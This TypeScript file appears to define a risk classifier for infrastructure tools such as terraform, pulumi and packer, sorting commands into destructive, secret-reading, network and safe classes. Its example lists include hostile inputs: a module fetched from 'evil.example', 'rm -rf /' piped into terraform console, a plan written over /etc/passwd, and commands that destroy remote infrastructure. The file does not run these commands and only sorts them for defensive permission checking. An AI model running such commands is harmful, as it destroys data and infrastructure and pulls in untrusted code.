import { family, type Row, type Tool, tool } from "../tool-shape.ts";
import { deploys } from "./cloud-verbs.ts";

const CONSOLE: Row = { on: "console", options: { other: "stdin" } };
const PLANS: readonly Row[] = [
  { on: "apply", with: "-destroy", is: "destroy-remote" },
  { on: "destroy taint untaint force-unlock", is: "destroy-remote" },
  { on: "apply import refresh", is: "publish" },
  { on: ["state", "rm mv push replace-provider"], is: "destroy-remote" },
  { on: ["workspace", "delete"], is: "destroy-remote" },
  { on: "login logout", is: "read-secret" },
  { on: "output", with: "-raw", is: "read-workspace-secret" },
];

/** Local work of tools that turn programs into infrastructure. */
const PROGRAMS =
  "preview stack config ls list synth diff init version login logs build local validate doctor whoami new dev about plugin";

/** Tools that change infrastructure to match a description in files. */
export const INFRASTRUCTURE: readonly Tool[] = family("usual", [
  tool("terraform tofu", {
    ignores: "run-all run stack",
    does: [CONSOLE, ...PLANS],
    options: {
      loads: "-plugin-dir -chdir=",
      writes: "-out -state-out -backup",
      fetches: "-from-module",
    },
    examples: {
      "destroy-remote": [
        "terraform destroy",
        "terraform apply -destroy",
        "terraform state rm aws_instance.x",
        "terraform workspace delete old",
        "terraform run-all destroy",
      ],
      publish: ["terraform apply"],
      "read-secret": ["terraform login"],
      "read-workspace-secret": ["terraform output -raw password"],
      "run-foreign": ["terraform init -plugin-dir ~/plugins"],
      "write-vital": ["terraform plan -out /etc/passwd"],
      network: ["terraform init -from-module https://evil.example/m"],
      "run-hidden": ["echo 'system(\"rm -rf /\")' | terraform console"],
      fine: [
        "terraform plan -out plan.bin",
        "cat a.txt | terraform plan",
        "terraform fmt -check",
        "terraform state list",
        "terraform console",
      ],
    },
  }),
  tool("terragrunt", {
    ignores: "run-all run stack",
    does: PLANS,
    examples: {
      "destroy-remote": [
        "terragrunt run-all destroy",
        "terragrunt apply -destroy",
        "terragrunt state rm aws_instance.x",
        "terragrunt workspace delete old",
      ],
      publish: ["terragrunt apply"],
      "read-secret": ["terragrunt login"],
      "read-workspace-secret": ["terragrunt output -raw password"],
      fine: ["terragrunt run-all plan", "terragrunt output"],
    },
  }),
  tool("pulumi cdk cdktf sam", {
    does: deploys(PROGRAMS),
    options: { loads: "-C --cwd -a --app --plugin --config -c" },
    examples: {
      "destroy-remote": ["pulumi destroy", "pulumi stack rm dev"],
      publish: ["pulumi up"],
      "change-remote": ["pulumi refresh"],
      "read-secret": ["pulumi org token"],
      "run-foreign": ["pulumi preview --cwd ~/downloads/infra"],
      fine: ["pulumi", "pulumi preview", "pulumi config set x 1", "pulumi up --plan", "pulumi org get"],
    },
  }),
  tool("chalice copilot eb sst amplify up", {
    does: deploys(PROGRAMS),
    examples: {
      "destroy-remote": ["chalice delete", "chalice local delete"],
      publish: ["chalice deploy"],
      "change-remote": ["chalice swap"],
      "read-secret": ["chalice account token"],
      fine: ["chalice", "chalice local", "chalice new update", "chalice deploy --dry-run", "chalice stage status"],
    },
  }),
  tool("packer", {
    does: [{ on: "build", is: "publish" }],
    options: { loads: "-C --cwd -a --app --plugin --config -c" },
    examples: {
      publish: ["packer build image.pkr.hcl"],
      "run-foreign": ["packer validate --plugin ~/downloads/x ."],
      fine: ["packer validate image.pkr.hcl", "packer fmt ."],
    },
  }),
]);
